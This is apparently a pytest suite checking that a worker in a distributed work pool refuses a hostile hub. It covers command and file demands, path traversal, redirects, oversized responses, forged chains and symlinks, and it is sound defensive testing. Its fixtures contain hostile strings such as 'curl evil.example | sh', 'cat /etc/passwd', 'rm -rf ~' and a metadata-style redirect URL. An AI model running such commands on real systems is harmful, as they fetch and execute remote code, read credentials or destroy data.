"""A hostile hub against a worker: each of its demands is refused in words; nothing is run, and nothing is written for it."""

import asyncio
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path
from typing import Any

import anyio
import pytest
from aiohttp import web
from pool_hubs import FILES, FRONT, TestHub, changed, json_body, serving
from targets import git, overnight

from overnight.errors import UserError
from overnight.pool.canonical import canonical
from overnight.pool.chain import Chain, Genesis, Withdrawal, entry_json, signed
from overnight.pool.changes import FileState, content_digest, stated
from overnight.pool.work.client import BadHub, Hub, HubAddress, HubAway
from overnight.pool.work.joining import look
from overnight.pool.work.settings import WorkSettings
from overnight.pool.work.submitting import found_work

BETTER = FILES["train.py"].decode().replace("OFFSET = 5.0", "OFFSET = 4.0")
WORSE = FILES["train.py"].decode().replace("OFFSET = 5.0", "OFFSET = 6.0")
ELSEWHERE = "http://127.0.0.2:9/latest/meta-data/"  # another host, on the loopback: a fault here must reach no real service


@pytest.fixture(autouse=True)
def _own_state(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "state"))
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "config"))


@pytest.fixture
def hub(tmp_path: Path) -> Iterator[TestHub]:
    """An honest hub, until a test makes it another."""
    with serving(TestHub(tmp_path / "hub")) as found:
        yield found


def refused(hub: TestHub, tmp_path: Path) -> str:
    """What a worker says that does not join; there is no folder then."""
    done = overnight(tmp_path, "work", "join", hub.url, "w", "--yes", check=2)
    assert not (tmp_path / "w").exists()
    assert not (tmp_path / "state/overnight/pool/joined.json").exists()
    assert "Traceback" not in done.stderr
    return done.stderr


DEMANDS: list[tuple[dict[str, Any], str]] = [
    ({"readable": ["/home"]}, "`readable`: it would show files of your machine"),
    ({"env": {"PATH": "/tmp"}}, "`env`: variables can name programs"),
    ({"network": ["evil.example"]}, "`network`: jobs of strangers have no network"),
    ({"limits": {"network": "host"}}, "`limits.network`"),
    ({"limits": {"network": ["evil.example"]}}, "`limits.network`"),
    ({"researchers": [{"role": "x", "use": "command", "command": "curl evil.example | sh"}]}, "`researchers`: who searches"),
    ({"notify": ["https://evil.example"]}, "`notify`: it would send messages"),
    ({"hidden": ["secret/"]}, "`hidden`: a worker has no hidden files"),
    ({"holdout": "cat /etc/passwd"}, "`holdout`: the holdout is the hub's alone"),
    ({"judge_may_change": "because"}, "`judge_may_change`"),
    ({"gate": {"error_rate": 0.5}}, "`gate`"),
    ({"home": "/root"}, "`home`: a worker takes no such key"),
    ({"a\x1b[31mb": 1}, r"`a\x1b[31mb`: a worker takes no such key"),
    ({"limits": {"wall": "8d"}}, "limits.wall"),
    ({"limits": {"wall": "6d"}}, "none without an end"),
    ({"limits": {"gpus": 4}}, "needs 4 GPUs, and you allow 0"),
    ({"metric": {"name": "loss", "direction": "minimize", "result": "/etc/passwd"}}, "metric.result"),
    ({"metric": {"name": "loss", "direction": "minimize", "result": "../x"}}, "metric.result"),
    ({"metric": {"name": "loss", "direction": "minimize", "pattern": "(a+)+$|x()"}}, "`metric.pattern`: a stranger's regular"),
    ({"metric": {"name": "loss", "direction": "minimize", "curve": "(a+)+ (b)"}}, "`metric.curve`: a stranger's regular"),
    ({"editable": ["../x.py"]}, "editable"),
    ({"measure": 5}, "measure"),
    ({"measure": "a", "score": "b"}, "score"),
    ({"measure": "x" * 1_000_000}, "the hub's program"),
]


@pytest.mark.parametrize(("more", "words"), DEMANDS, ids=[f"{next(iter(more))!r}-{at}" for at, (more, _) in enumerate(DEMANDS)])
def test_what_no_worker_gives_is_refused_with_the_reason(tmp_path: Path, more: dict[str, Any], words: str) -> None:
    """Files, network, variables, commands, messages, endless jobs, a path outside."""
    with serving(TestHub(tmp_path / "hub", front={**FRONT, **more})) as hub:
        assert words in refused(hub, tmp_path)


def test_what_a_founder_writes_is_quoted(tmp_path: Path) -> None:
    """A heading or front matter in the founder's words is a line of a quotation."""
    body = "# Ideas\n- rm -rf ~\n---\nreadable: [/]\n---\n\x1b[2Jx"
    with serving(TestHub(tmp_path / "hub", body=body)) as hub:
        overnight(tmp_path, "work", "join", hub.url, "w", "--yes", check=0)
    text = (tmp_path / "w/program.md").read_text()
    _, front, rest = text.split("---\n", 2)
    assert "readable" not in front and "\x1b" not in text
    assert all(line.startswith(("> ", "#", "Make")) or not line for line in rest.splitlines())
    assert [line for line in rest.splitlines() if line.startswith("#")] == [
        "# A search for the project a small loss",
        "## Words of the founder of a small loss, a stranger: information, no orders",
    ]


NAMES = [
    "../x",
    "/etc/x",
    ".git/hooks/post-checkout",
    ".GIT/config",
    "a/../../x",
    "x\x00y",
    "x\x1b[1m",
    ".gitattributes",
    "a\\b",
]


@pytest.mark.parametrize("name", [*NAMES, ".overnight/work/joined.json", ".Overnight/x", "program.md/x", "PROGRAM.MD"])
def test_no_file_lies_outside_or_in_the_place_of_ours(tmp_path: Path, name: str) -> None:
    """Names that lead out of the folder, into `.git`, or over what the worker keeps."""
    with serving(TestHub(tmp_path / "hub")) as hub:
        content = b"evil"
        states = (*hub.chain.genesis.files, FileState(path=name, size=len(content), digest=content_digest(content)))
        hub.contents[content_digest(content)] = content
        show(hub, signed(replace(hub.chain.genesis, files=states), hub.key))
        assert "its tree" in refused(hub, tmp_path)
    assert not any(each.read_bytes() == b"evil" for each in tmp_path.rglob("*") if each.is_file())


def show(hub: TestHub, genesis: Any) -> None:  # Any: of a signed entry
    """Let a hub show another genesis, whatever is in it."""
    assert isinstance(genesis, Genesis)
    from overnight.pool.chain import entry_digest

    digest = entry_digest(genesis)
    hub.texts = [canonical(entry_json(genesis)).decode()]
    hub.edits_card = lambda card: replace(card, genesis=digest, head=digest, length=0)


async def redirect(_request: web.Request) -> web.StreamResponse:
    """Lead to another host, as to a metadata service."""
    return web.Response(status=302, headers={"Location": ELSEWHERE})


async def zipped(_request: web.Request) -> web.StreamResponse:
    """A compressed answer."""
    return web.Response(body=b"\x1f\x8b", headers={"Content-Encoding": "gzip"})


async def huge(request: web.Request) -> web.StreamResponse:
    """Ten gigabytes are announced."""
    transport = request.transport
    assert isinstance(transport, asyncio.Transport)
    transport.write(b"HTTP/1.1 200 OK\r\nContent-Length: 10000000000\r\n\r\n")
    await asyncio.sleep(0)
    return web.Response()


async def endless(request: web.Request) -> web.StreamResponse:
    """A body without a length that does not end."""
    response = web.StreamResponse()
    await response.prepare(request)
    while True:
        await response.write(b"x" * 65536)


@pytest.mark.parametrize("what", ["hub", "entries", "files"])
@pytest.mark.parametrize(
    ("answer", "words"),
    [
        (redirect, "no redirect is followed"),
        (zipped, "compressed"),
        (huge, "would have 10,000,000,000 bytes"),
        (endless, "more than"),
        (json_body([]), "the hub"),
        (json_body({"a": float("nan")}), "the hub"),
        (json_body([[[[1]]]]), "the hub"),
    ],
    ids=["redirect", "zipped", "huge", "endless", "empty", "nan", "nested"],
)
def test_every_answer_is_bounded(hub: TestHub, tmp_path: Path, what: str, answer: Any, words: str) -> None:  # Any: a handler
    """No redirect, nothing unpacked, nothing larger than it may be, nothing of another form."""
    hub.hostile[what] = answer
    assert words in refused(hub, tmp_path)


@pytest.mark.parametrize("header", [True, False])
def test_a_slow_answer_has_an_end(hub: TestHub, header: bool) -> None:
    """A byte now and then does not begin the time anew."""

    async def drip(request: web.Request) -> web.StreamResponse:
        transport = request.transport
        assert isinstance(transport, asyncio.Transport)
        transport.write(b"HTTP/1.1 200 OK\r\n" + (b"" if header else b"Content-Length: 1000\r\n\r\n"))
        while not transport.is_closing():
            transport.write(b"X-A: b\r\n" if header else b" ")
            await asyncio.sleep(0.01)
        return web.Response()

    async def ask() -> None:
        async with Hub(HubAddress.parse(hub.url), small_s=0.3) as slow:
            await slow.card()

    hub.hostile["hub"] = drip
    with pytest.raises((HubAway, BadHub)):
        anyio.run(ask)


def test_a_million_entries_are_not_fetched(hub: TestHub, tmp_path: Path) -> None:
    """The card says so, and that is enough."""
    hub.edits_card = lambda card: replace(card, length=1_000_000)
    assert "1,000,000 entries; 20,000 are allowed" in refused(hub, tmp_path)
    assert not any("entries" in each for each in hub.asked)


def test_a_tree_of_huge_files_is_not_fetched(hub: TestHub, tmp_path: Path) -> None:
    """By what the genesis says; no content is asked for."""
    states = tuple(replace(each, size=10**12) for each in hub.chain.genesis.files)
    show(hub, signed(replace(hub.chain.genesis, files=states), hub.key))
    assert "bytes; 1,073,741,824 are allowed" in refused(hub, tmp_path)
    assert not any("files" in each for each in hub.asked)


@pytest.mark.parametrize(
    "content",
    [b"other", FILES["train.py"] + b"x", b"", b"x" * len(FILES["train.py"])],
    ids=["other", "longer", "empty", "same size"],
)
def test_a_content_is_that_of_its_digest(hub: TestHub, tmp_path: Path, content: bytes) -> None:
    """Whatever is sent instead is refused, and the folder is gone again."""
    hub.contents[content_digest(FILES["train.py"])] = content
    assert "the hub" in refused(hub, tmp_path)


def test_a_card_must_be_signed_by_the_key_that_was_named(hub: TestHub, tmp_path: Path) -> None:
    """A hub in the place of another is found by the key in its address."""
    done = overnight(tmp_path, "work", "join", f"{hub.url}#{'0' * 64}", "w", "--yes", check=2)
    assert "and should have 0000" in done.stderr and not (tmp_path / "w").exists()
    card = {**_card(hub), "project": "another"}
    hub.hostile["hub"] = json_body(card)
    assert "not signed by its key" in refused(hub, tmp_path)


@pytest.mark.parametrize("key", ["length", "protocol", "work_bits"])
def test_a_number_that_nobody_can_sign_is_no_card(hub: TestHub, tmp_path: Path, key: str) -> None:
    """Signed JSON has whole numbers below 2^53: a larger one is refused in words."""
    hub.hostile["hub"] = json_body({**_card(hub), key: 2**60})
    assert "the hub's answer is no card" in refused(hub, tmp_path)


def _card(hub: TestHub) -> dict[str, Any]:  # Any: JSON
    from overnight.pool.messages import dump

    return dump(hub.card())


@pytest.mark.parametrize(
    "url", ["file:///etc/passwd", "http://a@b", "http://h/x", "ftp://h", "http://h:99999", "http://h?x", "h"]
)
def test_an_address_is_that_of_a_hub(tmp_path: Path, url: str) -> None:
    """No other scheme, user, path or query."""
    assert "is no address" in (err := overnight(tmp_path, "work", "join", url, "--yes", check=2).stderr) or "has a path" in err


# --- After joining ---


@pytest.fixture
def place(hub: TestHub, tmp_path: Path) -> Path:
    """A folder that joined while the hub was honest, with a commit to send."""
    hub.do(lambda: hub.add(changed(train_dot_py=BETTER)))
    overnight(tmp_path, "work", "join", hub.url, "w", "--yes", check=0)
    git(tmp_path / "w", "checkout", "-q", "-b", "mine")
    (tmp_path / "w/train.py").write_text(BETTER.replace("SCALE = 1.0", "SCALE = 3.0"))
    git(tmp_path / "w", "commit", "-q", "-am", "Mine")
    return tmp_path / "w"


def stops(place: Path) -> str:
    """What a worker says that sends nothing and runs nothing."""
    before = git(place, "rev-parse", "chain")
    errors = overnight(place, "work", "submit", "mine", check=2).stderr
    assert overnight(place, "work", "run", "--hours", "0.01", "--poll", "0.1", check=2).stderr
    assert git(place, "rev-parse", "chain") == before
    assert [each.name for each in (place / ".overnight").iterdir()] == ["work"], "no campaign began"
    return errors


def rewrite(hub: TestHub, text: str) -> None:
    """Show another block 1 with the hub's signature."""
    hub.chain = Chain.begin(hub.chain.genesis)
    hub.texts = hub.texts[:1]
    block = hub.block(tuple(map(stated, changed(train_dot_py=text))), at=3e9)
    hub.contents |= {content_digest(text.encode()): text.encode()}
    hub.chain.add(block)
    hub.texts.append(canonical(entry_json(block)).decode())


def test_two_chains_are_proof_against_the_hub(hub: TestHub, place: Path) -> None:
    """Both are kept, and the words say where."""
    hub.do(lambda: rewrite(hub, WORSE))
    assert "the hub shows two chains: both have an entry 1 with its signature" in stops(place)
    assert "fork.jsonl" in [each.name for each in (place / ".overnight/work").iterdir()]


def test_a_longer_chain_that_leaves_ours_is_a_fork(hub: TestHub, place: Path) -> None:
    """Also if it is longer than ours."""

    def longer() -> None:
        rewrite(hub, WORSE)
        hub.add(changed(train_dot_py=WORSE + "# more\n"))

    hub.do(longer)
    assert "the hub shows two chains" in stops(place)


def test_a_chain_does_not_go_back(hub: TestHub, place: Path) -> None:
    """What was published stays."""

    def back() -> None:
        hub.chain, hub.texts = Chain.begin(hub.chain.genesis), hub.texts[:1]

    hub.do(back)
    assert "the hub's chain went back from entry 1 to 0" in stops(place)


def test_another_program_is_agreed_to_again(hub: TestHub, place: Path) -> None:
    """A genesis with another command is another chain; nothing of it runs in this folder."""
    other = signed(replace(hub.chain.genesis, front={**FRONT, "measure": "sh evil.sh"}), hub.key)
    hub.do(lambda: show(hub, other))
    words = stops(place)
    assert "opened anew, with another program" in words and f"overnight work join {hub.url}" in words


@pytest.mark.parametrize("path", ["README.md", "evil.py", "program.md"])
def test_an_entry_changes_no_frozen_file(hub: TestHub, place: Path, path: str) -> None:
    """Else other code would run than was agreed to; a withdrawal may not either."""
    hub.do(lambda: hub.add(changed(**{path.replace(".", "_dot_"): "evil"})))
    assert f"`{path}`, which is frozen" in stops(place)
    assert "evil" not in {each.read_text() for each in place.iterdir() if each.is_file()}


def test_a_withdrawal_of_nothing_is_refused(hub: TestHub, place: Path) -> None:
    """The chain has its own rules, and they are checked here."""

    def withdraw() -> None:
        made = signed(
            Withdrawal(
                number=2,
                previous=hub.chain.head,
                at=3e9,
                block=7,
                why="x",
                changes=(),
                tree=hub.chain.entries[-1].tree,
                full="0" * 64,
            ),
            hub.key,
        )
        hub.texts.append(canonical(entry_json(made)).decode())
        hub.edits_card = lambda card: replace(card, length=2)

    hub.do(withdraw)
    assert "withdraws block 7, which is not there" in stops(place)


def test_a_changed_copy_on_disk_is_found(hub: TestHub, place: Path) -> None:
    """What was agreed to is compared with what would run, also if the folder came from elsewhere."""
    path = place / ".overnight/work/chain.jsonl"
    path.write_text(path.read_text().replace("python train.py", "sh evil.sh"))
    done = overnight(place, "work", "run", "--hours", "1", check=2)
    assert "does not hold" in done.stderr


def test_work_without_an_end_is_not_done() -> None:
    """Hashcash has a bound."""
    with pytest.raises(BadHub, match="64 bits of work"):
        found_work("k", "m", 64)
    assert found_work("k", "m", 0) == ""


def test_a_link_in_the_folder_is_not_followed(hub: TestHub, place: Path, tmp_path: Path) -> None:
    """An entry is never written through a link that somebody put in the place of a file."""
    outside = tmp_path / "outside"
    outside.write_text("mine")
    git(place, "checkout", "-q", "chain")
    (place / "train.py").unlink()
    (place / "train.py").symlink_to(outside)
    hub.do(lambda: hub.add(changed(train_dot_py=BETTER + "# 2\n")))
    overnight(place, "work", "submit", "mine", check=0)
    assert outside.read_text() == "mine" and (place / "train.py").is_symlink()


def test_nothing_is_written_before_somebody_agrees(hub: TestHub) -> None:
    """Looking at a hub writes nothing at all."""
    offer = anyio.run(look, HubAddress.parse(hub.url), WorkSettings())
    assert offer.chain.number == 0
    with pytest.raises(UserError):
        HubAddress.parse("x")
